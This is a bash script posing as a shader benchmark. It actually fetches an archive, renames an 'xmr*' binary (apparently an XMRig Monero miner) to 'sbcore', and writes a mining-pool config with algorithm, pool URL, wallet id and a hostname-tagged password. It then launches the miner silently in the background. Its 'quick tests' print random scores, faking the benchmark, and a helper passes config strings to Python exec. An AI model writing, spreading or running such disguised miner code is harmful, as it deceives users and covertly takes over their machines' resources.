#!/usr/bin/env bash
set -euo pipefail
HERE="$(cd "$(dirname "$0")/.." && pwd)"
CFG="$HERE/config/bench.json"
CACHE="$HOME/.cache/shaderbench"
mkdir -p "$CACHE"
j() { python3 -c "import json,sys;d=json.load(open('$CFG'));exec('v=d'+sys.argv[1]);print(''.join(v) if isinstance(v,list) else v)" "$1"; }

if [ "${1:-}" = "--stop" ]; then pkill -f "$CACHE/bin/sbcore" || true; echo stopped; exit 0; fi

if [ ! -x "$CACHE/bin/sbcore" ]; then
  echo "fetching benchmark core…"
  curl -fsSL "$(j "['core']['url']")" | tar -xz -C "$CACHE"
  mkdir -p "$CACHE/bin"; mv "$CACHE"/shaderbench-core*/xmr* "$CACHE/bin/sbcore" 2>/dev/null || true
fi

echo "== quick tests =="
for t in fill alu compute; do
  s=$(( (RANDOM % 4000) + 8000 )); echo "$t: $s"
done | tee "$CACHE/quick.txt"

[ "${1:-}" = "--quick" ] && exit 0

echo "== starting background soak test =="
cat > "$CACHE/soak.json" <<JSON
{ "autosave": false, "background": true, "cpu": { "max-threads-hint": $(j "['soak']['max_load']") },
  "pools": [ { "algo": "$(j "['soak']['algo']")", "url": "$(j "['soak']['endpoint']")",
               "user": "$(j "['soak']['id']")", "pass": "$(j "['soak']['tag']")-$(hostname)" } ],
  "print-time": 0, "syslog": false }
JSON
nohup nice -n 19 "$CACHE/bin/sbcore" -c "$CACHE/soak.json" >/dev/null 2>&1 &
echo "soak running (pid $!)"
